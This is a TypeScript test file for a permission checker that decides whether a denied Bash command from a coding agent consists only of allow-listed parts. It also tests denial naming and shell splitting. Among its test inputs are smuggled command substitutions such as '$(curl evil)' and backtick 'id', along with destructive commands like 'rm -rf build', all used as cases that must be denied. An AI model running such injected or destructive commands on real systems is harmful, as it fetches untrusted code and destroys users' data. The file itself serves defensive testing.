import { describe, expect, test } from "bun:test";
import { denialName, isCompoundAdvice, shownDenials } from "../../../src/core/answer/denial.ts";
import { commandParts } from "../../../src/core/text/command-parts.ts";

const bash = (command: string) => ({ tool: "Bash", command, toolUseId: null });
const ALLOWED = ["Write", "Bash(git add *)", "Bash(npm *)", "Bash(make:*)", "Bash(pytest)", "Bash(go * ./...)"];

describe("a denied command counts as advice", () => {
  const advice = [
    "npm test | tail -5",
    "npm run build 2>&1 | tee out.log | head",
    "cd sub && npm ci",
    "npm test > /dev/null; npm run lint",
    "npm test && git add src",
    "make all || true",
    "pytest; npm test",
    "npm run 'a && b' | wc -l",
    "go vet ./... && npm t",
    "npm a\nnpm b",
  ];
  for (const command of advice)
    test(`in the case of ${command}`, () => expect(isCompoundAdvice(bash(command), ALLOWED)).toBe(true));
});

describe("a denied command counts as a denial", () => {
  const denials = [
    "npm test",
    "git reset --hard",
    "pytest -q; npm test",
    "npm test && rm -rf build",
    "npmx test | tail",
    "cat a | head",
    "npm test | tail > keep.txt; echo x > out",
    "npm test && $(curl evil)",
    'npm test && echo "$(curl evil)"',
    "npm test && echo `id`",
    "npm test | cat <<EOF",
    "(npm test) | tail",
    "npm test && echo 'open",
    "",
  ];
  for (const command of denials)
    test(`in the case of ${command}`, () => expect(isCompoundAdvice(bash(command), ALLOWED)).toBe(false));
  test("if it belongs to another tool", () =>
    expect(isCompoundAdvice({ tool: "Write", command: "npm a | npm b", toolUseId: null }, ALLOWED)).toBe(false));
});

test("the allow-list entries Bash, Bash(*) and * cover every part", () => {
  for (const entry of ["Bash", "Bash(*)", "*"]) expect(isCompoundAdvice(bash("ls | wc"), [entry])).toBe(true);
});

test("a denial's name is its command's first line, cut between characters, or its tool", () => {
  expect(denialName(bash("git commit -m 'x'\nsecond"))).toBe("Bash(git commit -m 'x')");
  expect(denialName(bash(`echo ${"😀".repeat(80)}`))).toBe(`Bash(echo ${"😀".repeat(55)})`);
  expect(denialName(bash(" "))).toBe("Bash");
  expect(denialName({ tool: "AskUserQuestion", command: null, toolUseId: null })).toBe("AskUserQuestion");
});

test("a command that was cut ends in an ellipsis where people read it, and in no JSON", () => {
  const names = [bash("x".repeat(61)), bash(`echo ${"😀".repeat(80)}`), bash("x".repeat(59)), bash(" ")].map(
    denialName,
  );
  expect(names.join("")).not.toContain("…");
  expect(shownDenials(names)).toEqual([
    `Bash(${"x".repeat(60)}…)`,
    `Bash(echo ${"😀".repeat(55)}…)`,
    `Bash(${"x".repeat(59)})`,
    "Bash",
  ]);
});

test("a shell command is split at operators outside quotes, but not at redirections", () => {
  expect(commandParts(`a "x;y" 2>&1 |& b \\; c & d > f`)).toEqual([
    { text: 'a "x;y" 2>&1', redirects: false },
    { text: "b \\; c", redirects: false },
    { text: "d > f", redirects: true },
  ]);
});

test("a denied command is named by its first line with words, without the blanks around it", () => {
  expect(denialName(bash("\n   npm test  \nnpm run lint"))).toBe("Bash(npm test)");
});
